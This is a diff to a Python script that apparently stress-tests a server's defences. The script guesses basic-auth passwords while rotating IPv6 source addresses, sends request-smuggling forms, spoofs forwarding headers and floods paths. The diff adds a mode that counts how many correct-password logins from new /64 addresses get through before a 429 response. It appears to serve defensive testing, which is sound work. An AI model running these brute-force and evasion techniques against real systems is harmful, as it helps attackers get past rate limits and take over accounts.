@@ -2,6 +2,7 @@
 """HTTP requests with bad intent: requests.py CASE RELAY HOST arguments…, while the attack goes on. At last "rate N".
 
 	guess PREFIX       passwords for basic_auth, from the /64s of the IPv6 /48 PREFIX
+	right PREFIX       the right password, each time from another /64 than any guess, until one is not looked at; "rate" is which one that was
 	smuggle            each form of a request that two readers could read differently, with a request for /smuggled/FORM inside it; over and over
 	folded             headers whose names some servers take for X-Forwarded-For and its like, once each
 	visit PATH         asks for PATH, 50 at a time
@@ -53,11 +54,22 @@ def side_by_side(make, source, at_once=50):
 	return sent / seconds()
 
 
+def login(password):
+	return ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nAuthorization: Basic %s\r\n\r\n" % (name,
+		base64.b64encode(b"u:" + password).decode())).encode()
+
+
 def guess(prefix):
-	def make(i):
-		return ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nAuthorization: Basic %s\r\n\r\n" % (name,
-			base64.b64encode(b"u:guess%d" % i).decode())).encode()
-	return side_by_side(make, lambda i: "%s:%x::1" % (prefix, i & 0xffff))
+	return side_by_side(lambda i: login(b"guess%d" % i), lambda i: "%s:%x::1" % (prefix, i & 0x7fff))
+
+
+def right(prefix):
+	for i in range(20000):
+		with socket.create_connection((relay, 80), 60, ("%s:%x::1" % (prefix, 0x8000 + i), 0)) as s:
+			s.sendall(login(b"right"))
+			if s.recv(4096)[9:12] == b"429":
+				return i + 1
+	return 0
 
 
 def visit(path):
